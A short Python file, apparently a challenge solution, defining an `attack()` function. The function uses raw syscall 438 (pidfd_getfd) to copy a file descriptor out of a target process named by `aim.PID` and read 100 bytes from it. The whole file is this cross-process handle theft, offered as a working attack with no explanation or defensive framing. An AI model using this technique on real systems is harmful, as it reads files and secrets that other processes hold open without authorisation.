import os

import aim
from raw import syscall


def attack():
    file = syscall(438, os.pidfd_open(aim.PID), 0, 0)
    return os.pread(file, 100, 0).decode()
